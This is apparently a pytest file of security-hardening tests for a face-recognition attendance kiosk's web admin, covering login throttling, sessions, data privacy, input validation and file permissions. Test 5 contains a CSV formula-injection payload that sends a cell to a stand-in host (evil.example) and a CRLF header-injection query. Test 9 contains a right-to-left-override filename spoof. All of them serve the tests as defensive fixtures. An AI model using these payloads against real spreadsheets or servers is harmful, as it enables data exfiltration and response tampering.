"""What the audit found, one test per finding (numbers as in the hardening
issue): an attacker on the network, a fault, a careless manager."""

import datetime as dt
import io
import json
import os
import re
import socket
import subprocess
import sys
import threading
import time

import numpy as np
import pytest
from PIL import Image

from kiosk.config import Config, KioskSettings, WebSettings
from kiosk.status import Screen, Status
from kiosk.web import create_app, passwords
from tests.helpers import PASSWORD, punch, services, token_of

REMOTE = {"REMOTE_ADDR": "10.0.0.66"}


def make_app(tmp_path, **web):
    passwords.set_password(tmp_path, PASSWORD)
    config = Config(kiosk=KioskSettings(data_dir=tmp_path), web=WebSettings(**web))
    return create_app(config, services(tmp_path / "kiosk.db", Status()), {"TESTING": True, "SSE_ONCE": True})


def csrf(client, path="/admin/login", **kw):
    return token_of(client.get(path, **kw).get_data(as_text=True))


def login(client, password=PASSWORD, **kw):
    return client.post("/admin/login", data={"csrf_token": csrf(client, **kw), "password": password}, **kw)


# -- 1. memory exhaustion through the login form -----------------------------------------------------
def test_1_parallel_wrong_logins_check_at_most_five_passwords_one_at_a_time(tmp_path, monkeypatch):
    app = make_app(tmp_path)
    active, most, checks = [0], [0], []
    lock = threading.Lock()
    real = passwords.check

    def counting(data_dir, password):
        with lock:
            active[0] += 1
            most[0] = max(most[0], active[0])
            checks.append(password)
        time.sleep(0.05)  # an scrypt's worth of time, so overlaps would show
        try:
            return real(data_dir, password)
        finally:
            with lock:
                active[0] -= 1

    monkeypatch.setattr(passwords, "check", counting)
    clients = [app.test_client() for _ in range(40)]
    tokens = [csrf(c, environ_base=REMOTE) for c in clients]
    codes = []

    def attempt(client, token):
        codes.append(
            client.post("/admin/login", data={"csrf_token": token, "password": "wrong guess!"}, environ_base=REMOTE).status_code
        )

    threads = [threading.Thread(target=attempt, args=pair) for pair in zip(clients, tokens, strict=True)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert len(checks) <= 5 and most[0] == 1
    assert sorted(codes) == [401] * len(checks) + [429] * (40 - len(checks))


def test_1_the_attempt_table_is_bounded():
    from kiosk.web.auth import Attempts

    attempts = Attempts(limit=5, window=300, max_clients=100)
    for i in range(1000):
        attempts.begin(f"10.0.{i // 256}.{i % 256}", now=float(i))
    assert len(attempts) == 100
    for _ in range(5):
        assert attempts.begin("10.9.9.9", now=2000.0)
    assert not attempts.begin("10.9.9.9", now=2001.0)  # counted before checking: the sixth is refused
    assert attempts.begin("10.9.9.9", now=2400.0)  # after the window


# -- 2. the watchdog in admin-only mode ---------------------------------------------------------------
def test_2_the_watchdog_is_fed_with_the_camera_disabled(tmp_path):
    path = str(tmp_path / "notify.sock")
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    sock.bind(path)
    sock.settimeout(20)
    env = dict(os.environ, NOTIFY_SOCKET=path, WATCHDOG_USEC="2000000", KIOSK_DATA_DIR=str(tmp_path / "data"))
    config = tmp_path / "kiosk.toml"
    config.write_text("[camera]\nsource = 'none'\n[web]\nport = 18734\n")
    proc = subprocess.Popen(
        [sys.executable, "-m", "kiosk", "-c", str(config), "run"],
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        messages = []
        deadline = time.monotonic() + 40
        while messages.count(b"WATCHDOG=1") < 3 and time.monotonic() < deadline:
            messages.append(sock.recv(200))
        assert messages[0] == b"READY=1" and messages.count(b"WATCHDOG=1") >= 3
    finally:
        proc.terminate()
        proc.wait(timeout=20)
        sock.close()


def test_2_the_heartbeat_stops_feeding_when_the_process_is_not_healthy():
    from kiosk.health import Heartbeat, Verdict, judge

    assert judge(
        web_alive=True, loop_expected=False, loop_alive=False, last_progress=0, now=100, stall_seconds=30, database_problem=None
    ).healthy  # admin-only: no loop to wait for
    assert not judge(
        web_alive=True, loop_expected=True, loop_alive=True, last_progress=0, now=100, stall_seconds=30, database_problem=None
    ).healthy
    assert not judge(
        web_alive=False, loop_expected=False, loop_alive=False, last_progress=0, now=0, stall_seconds=30, database_problem=None
    ).healthy

    class Notifier:
        def __init__(self):
            self.sent = []

        def watchdog(self):
            self.sent.append("WATCHDOG=1")

        def status(self, text):
            self.sent.append(text)

    verdicts = iter([Verdict(True), Verdict(False, "the database file was deleted"), Verdict(False, "still")])
    fatal = []
    notifier = Notifier()
    beat = Heartbeat(notifier, lambda: next(verdicts), 1.0, fatal.append)
    for _ in range(3):
        beat.beat()
    assert notifier.sent == ["WATCHDOG=1", "unhealthy: the database file was deleted"] and fatal == [
        "the database file was deleted"
    ]


# -- 3. names on /status and /events -----------------------------------------------------------------
def test_3_the_network_sees_no_names_and_the_admin_does(tmp_path):
    app = make_app(tmp_path)
    status = app.config["SERVICES"].status
    status.show(Screen("already", "Hello Colin Powell", "already recorded at 08:59 (IN)", public_title="Hello"))
    status.last_recognitions.appendleft(
        {"employee_id": 1, "name": "Colin Powell", "direction": "in", "at": "2026-11-23T08:59:00+00:00"}
    )
    client = app.test_client()
    for path in ("/status", "/events", "/"):
        assert b"Colin" not in client.get(path, environ_base=REMOTE).data
    assert login(client, environ_base=REMOTE).status_code == 302
    assert b"Colin Powell" in client.get("/status", environ_base=REMOTE).data  # a logged-in admin may see them


# -- 4. sessions and HTTPS ---------------------------------------------------------------------------
def test_4_an_old_cookie_dies_with_logout_and_with_a_new_password(tmp_path):
    app = make_app(tmp_path)
    client = app.test_client()
    login(client)
    stolen = client.get_cookie("session").value
    assert client.get("/admin/timesheet").status_code == 200
    client.post("/admin/logout", data={"csrf_token": csrf(client, "/admin/timesheet")})
    thief = app.test_client()
    thief.set_cookie("session", stolen)
    assert thief.get("/admin/timesheet").status_code == 302  # to the login page
    login(client)
    copy = client.get_cookie("session").value
    passwords.set_password(tmp_path, "a brand new password")  # kiosk admin set-password
    thief.set_cookie("session", copy)
    assert thief.get("/admin/timesheet").status_code == 302


def test_4_use_does_not_renew_a_session_and_tls_makes_cookies_secure(tmp_path):
    app = make_app(tmp_path)
    client = app.test_client()
    assert "Secure" not in login(client).headers["Set-Cookie"]
    client.get("/admin/timesheet")  # the first form after login stores its CSRF token
    assert "Set-Cookie" not in client.get("/admin/timesheet").headers  # not renewed by use
    with client.session_transaction() as session:
        session["since"] -= 31 * 60  # logged in 31 minutes ago: over web.session_minutes, however busy
    assert client.get("/admin/timesheet").status_code == 302
    cert, key = tmp_path / "cert.pem", tmp_path / "key.pem"
    cert.write_text("x")
    key.write_text("x")
    secure = make_app(tmp_path, tls_cert=cert, tls_key=key).test_client()
    response = login(secure)
    assert "Secure" in response.headers["Set-Cookie"] and "Strict-Transport-Security" in secure.get("/admin/login").headers


# -- 5. CSV formula injection and header injection ---------------------------------------------------
def test_5_csv_exports_neutralise_formulas_and_reject_bad_dates(tmp_path):
    from kiosk.store import Store

    app = make_app(tmp_path)
    client = app.test_client()
    login(client)
    store = Store(tmp_path / "kiosk.db")
    evil = store.add_employee(
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
        image=None,
        face=None,
        crop=np.zeros((8, 8, 3), np.uint8),
        embedding=np.ones(4, np.float32),
        model_version="v",
    )
    punch(store, evil, dt.datetime(2026, 11, 23, 8, 0, tzinfo=dt.UTC))
    text = client.get("/admin/attendance.csv?from=2026-11-22&to=2026-11-24").get_data(as_text=True)
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text
    assert client.get("/admin/attendance.csv?to=2026-11-23%0D%0ASet-Cookie:%20x=1").status_code == 400


# -- 6. image decoding memory ------------------------------------------------------------------------
def test_6_big_photos_are_decoded_small_and_one_at_a_time(monkeypatch):
    from kiosk import enrollment

    buf = io.BytesIO()
    Image.new("RGB", (6000, 4000), (120, 90, 60)).save(buf, "JPEG", quality=80)
    decoded = enrollment.decode_photo(buf.getvalue())
    assert max(decoded.shape[:2]) <= enrollment.MAX_SIDE
    big = io.BytesIO()
    Image.new("L", (8000, 6000)).save(big, "PNG")
    with pytest.raises(enrollment.EnrollmentError, match="too large.*under 25 megapixels"):
        enrollment.decode_photo(big.getvalue())
    # one decode at a time: a second caller waits for the first
    inside = []
    real_open = Image.open

    def slow_open(*args, **kw):
        inside.append(1)
        assert len(inside) == 1
        time.sleep(0.05)
        try:
            return real_open(*args, **kw)
        finally:
            inside.pop()

    monkeypatch.setattr(enrollment.Image, "open", slow_open)
    threads = [threading.Thread(target=enrollment.decode_photo, args=(buf.getvalue(),)) for _ in range(3)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()


# -- 7. database faults: see tests/test_faults.py (processes) and tests/test_store.py (files) ---------
def test_7_a_second_kiosk_and_a_restore_are_refused_while_one_runs(tmp_path):
    from kiosk.data_folder import DataDirLocked, lock_data_dir

    held = lock_data_dir(tmp_path)
    try:
        with pytest.raises(DataDirLocked, match="a kiosk is running on this data folder"):
            lock_data_dir(tmp_path)
        env = dict(os.environ, KIOSK_DATA_DIR=str(tmp_path))
        (tmp_path / "backup.db").write_bytes(b"")
        result = subprocess.run(
            [sys.executable, "-m", "kiosk", "restore", str(tmp_path / "backup.db")],
            env=env,
            capture_output=True,
            text=True,
            timeout=60,
        )
        assert result.returncode == 1 and "a kiosk is running on this data folder" in result.stderr
    finally:
        held.close()
    lock_data_dir(tmp_path).close()  # free again once the kiosk stops


# -- 8. check-config catches what run rejects: see tests/test_config.py and tests/test_cli.py ---------
def test_8_a_port_out_of_range_is_refused_not_wrapped(tmp_path):
    from kiosk.config import ConfigError, load_config

    config = tmp_path / "kiosk.toml"
    config.write_text("[web]\nport = 70000\n")
    with pytest.raises(ConfigError, match="web.port: must be at most 65535, got 70000"):
        load_config(config)


# -- 9. names ----------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "name,needle",
    [
        ("A" * 101, "at most 100 characters"),
        ("Alice\nBob", "line breaks, tabs"),
        ("Alice\tBob", "line breaks, tabs"),
        ("Bob\u202egnp.exe", "text-direction"),
        ("   ", "A name is required"),
    ],
)
def test_9_one_name_rule_for_the_cli_the_web_and_the_store(tmp_path, name, needle):
    from kiosk.names import InvalidName, clean_name
    from kiosk.store import Store

    with pytest.raises(InvalidName, match=needle):
        clean_name(name)
    with pytest.raises(InvalidName, match=needle):
        Store(tmp_path / "k.db").add_employee(
            name, image=None, face=None, crop=np.zeros((8, 8, 3), np.uint8), embedding=np.ones(4, np.float32), model_version="v"
        )
    assert clean_name("  José  María Ñúñez 李小龍 ") == "José  María Ñúñez 李小龍"


def test_9_long_names_wrap_in_the_staff_grid():
    from pathlib import Path

    css = (Path(__file__).resolve().parents[1] / "kiosk" / "web" / "static" / "admin.css").read_text()
    # break-word with min-width 0: a long name wraps inside its grid cell or table column
    # (anywhere would also squeeze short names letter by letter into narrow timesheet columns).
    rule = re.search(r"\.person-name, \.staff a \{([^}]*)\}", css)
    assert rule and "overflow-wrap: break-word" in rule.group(1) and "min-width: 0" in rule.group(1)


# -- 11. files -------------------------------------------------------------------------------------------
def test_11_data_files_are_private_and_an_empty_secret_key_is_replaced(tmp_path):
    from kiosk.store import Store

    data = tmp_path / "data"
    os.umask(0o077)
    Store(data / "kiosk.db").close()
    assert oct(os.stat(data).st_mode & 0o777) == "0o700"
    assert all(oct(os.stat(p).st_mode & 0o777) == "0o600" for p in data.iterdir() if p.is_file())
    (data / "secret_key").write_bytes(b"")
    key = passwords.secret_key(data)
    assert len(key) == 32 and (data / "secret_key").read_bytes() == key


# -- 12. messages --------------------------------------------------------------------------------------
def test_12_messages_read_as_sentences(tmp_path):
    from kiosk.contract import ContractError, load_contract
    from kiosk.detection import default_model_path
    from kiosk.enrollment import PHOTO_REASONS

    model = tmp_path / "m.tflite"
    model.write_bytes(default_model_path().read_bytes())
    (tmp_path / "m.json").write_text(
        json.dumps(
            {
                "format": "kiosk-face-embedding/1",
                "version": "x",
                "input_size": [64, 64],
                "color_order": "RGB",
                "normalization": {"mean": 0, "std": 1},
                "alignment": "dlib150",
                "embedding_size": 128,
                "distance": "cosine",
                "threshold": "0.4",
            }
        )
    )
    with pytest.raises(ContractError) as err:
        load_contract(model)
    assert "'threshold' must be a number, got '0.4'" in str(err.value) and "<class" not in str(err.value)
    assert all(
        "photo" in text and "please" not in text.lower() for text in PHOTO_REASONS.values()
    )  # about the photo, not the kiosk
